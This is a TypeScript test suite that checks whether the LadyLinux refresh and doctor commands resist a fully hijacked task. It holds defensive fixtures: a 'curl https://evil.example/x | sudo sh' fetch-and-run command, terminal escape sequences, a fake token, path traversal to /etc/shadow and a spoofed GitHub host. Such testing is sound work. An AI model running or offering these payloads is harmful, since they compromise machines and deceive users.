import { beforeAll, describe, expect, it } from 'vitest';
import { exitCodes } from '../../../contract/outcome';
import { taskUnit } from '../../../helper/host/systemd/directives';
import type { TaskName } from '../../../helper/host/task-table';
import type { Machine } from '../../support/machine';
import { goodAnswers } from '../../support/task-answers';
import type { Internet } from '../world/internet';
import { sh, statusOf } from '../world/machine';
import { sendFile } from '../world/sandbox';
import { ofOneKind } from '../../support/one-kind';

const forger = '/usr/lib/ladylinux/forger.cjs';
const victim = '/etc/victim';
const typed = 'curl https://evil.example/x | sudo sh';
const escape = '\u001b]52;c;QUJD\u0007\u001b[2J';

/** Replaces our own program and has its key: an attacker who controls a whole task. */
const forgerSource = `
const { readFileSync } = require('node:fs');
const forged = JSON.parse(readFileSync('${forger}.json', 'utf8'));
require('node:readline').createInterface({ input: process.stdin }).once('line', (order) => {
  const { key } = JSON.parse(order);
  const text = forged.map((line) => (typeof line === 'string' ? line : key + JSON.stringify(line)) + '\\n').join('');
  process.stdout.write(text, () => process.exit(0));
});
`;

const output = (line: string) => ({ type: 'output', line });
const result = (value: object) => ({ type: 'result', result: value });
const failure = (code: string, params: object) => ({
  type: 'failure',
  failure: { message: { code, params } },
});

/** As in the first version of the protocol: root moved away whatever is named here. */
const namesAFile = result({
  ...goodAnswers['local-edits'],
  edits: { ...goodAnswers['local-edits'].edits, archive: victim, archived: victim },
});
const talks = [output(`${escape}run: ${typed}`), output('TOKEN=hunter2hunter2hunter2')];

const tenMegabytes = ['x'.repeat(10_500_000)];
const command = [...talks, failure('tool-missing', { tool: 'git', fix: typed })];
const foreignWord = [...talks, failure('offline', { host: typed, last: escape })];

const staged = exitCodes.stagingFailed;
/** In an ordinary refresh. An attacker who controls the trial cannot stop anything. */
const attacks: readonly (readonly [TaskName, string, readonly unknown[], number])[] = [
  ['fetch', 'fails with somebody’s advice', foreignWord, staged],
  ['local-edits', 'names a file to root', [namesAFile], staged],
  ['local-edits', 'says 10 MB in one line', tenMegabytes, staged],
  ['resolve', 'fails with a command', command, staged],
  ['environment', 'says nothing', [], staged],
  ['fetch', 'says 10 MB in one line', tenMegabytes, staged],
  ['checkout', 'fails with a command', command, staged],
  ['try', 'fails with a word of another', foreignWord, staged],
  ['serve', 'fails with a command', command, exitCodes.ok],
  ['prepare', 'fails with a word of another', foreignWord, exitCodes.rolledBack],
];

/** Tasks whose own Node says what an attacker likes: the border holds on root's side of it alone. */
export const tasksTakenOver = (given: () => { machine: Machine; internet: Internet }) => {
  describe('a task that somebody has the whole of (threats 29, 30)', () => {
    let machine: Machine;
    let internet: Internet;
    let before: string;
    const victims = `stat -c '%n %i %U %a %s' ${victim} /etc/shadow /var/lib/ladylinux/data; sha256sum ${victim} /etc/shadow`;

    beforeAll(async () => {
      ({ machine, internet } = given());
      await sendFile(machine, forger, forgerSource);
      before = await sh(
        machine,
        `(umask 077; echo only root may touch this > ${victim}); ${victims}`,
      );
    });

    /** What a command line of ours shows, while another program answers for that task. */
    const whileForged = async (task: TaskName, says: readonly unknown[], ...args: string[]) => {
      await sendFile(machine, `${forger}.json`, JSON.stringify(says));
      const folder = `/run/systemd/system/${taskUnit(task)}.d`;
      await sh(
        machine,
        `mkdir -p ${folder}
         printf '[Service]\\nExecStart=\\nExecStart=/usr/bin/node ${forger}\\n' > ${folder}/forged.conf
         systemctl daemon-reload`,
      );
      try {
        const { exitCode, all = '' } = await machine.exec(['ladylinux-refresh', ...args], {
          reject: false,
          all: true,
          timeout: 120_000,
        });
        return { exitCode, text: all };
      } finally {
        await sh(machine, `rm -r ${folder}; systemctl daemon-reload`);
      }
    };

    ofOneKind(attacks, 5)(
      '%s %s: nothing is moved, no advice is given, and LadyLinux serves',
      async ([task, , says, code]) => {
        await internet.upstream.commit({ files: { 'note.txt': `${task} ${says.length}\n` } });
        const args = task === 'environment' ? ['--rebuild'] : [];
        const { exitCode, text } = await whileForged(task, says, 'refresh', ...args);
        expect(text).not.toContain('\u001b');
        expect(text).not.toContain('hunter2');
        // a program's output is shown as output, below the steps
        const said = text.split('\n').filter((line) => !line.startsWith('    '));
        expect(said.join('\n')).not.toContain('evil.example');
        expect([exitCode, text]).toEqual([code, text]);
        expect(await sh(machine, victims)).toBe(before);
        expect((await statusOf(machine)).condition).toBe('healthy');
      },
    );

    it('examine answers for doctor: nothing to type of what it says', async () => {
      const good = goodAnswers.examine;
      const forged = result({
        ...good,
        code: {
          ...good.code,
          remote: 'https://github.com.evil.example/theCodingProfessor/LadyLinux',
          unreadable: ['../../../etc/shadow', typed],
          nested: ['../../../etc', typed],
          stateFiles: { count: 2, paths: ['api_layer.py', '../../../etc/shadow'] },
        },
      });
      const { text } = await whileForged('examine', [...talks, forged], 'doctor', '--json');
      const { findings } = JSON.parse(text) as { findings: { fix: unknown; what: unknown }[] };
      expect(findings.length).toBeGreaterThan(0);
      const fixes = JSON.stringify(findings.map(({ fix }) => fix));
      expect(fixes).not.toMatch(/evil|shadow|\.\./);
      const { text: shown } = await whileForged('examine', [...talks, forged], 'doctor');
      expect(shown).not.toContain('\u001b');
      expect(shown).not.toMatch(/hunter2|^\s*Run: .*(?:evil|shadow|\.\.)/m);
      expect(await sh(machine, victims)).toBe(before);
    });
  });
};
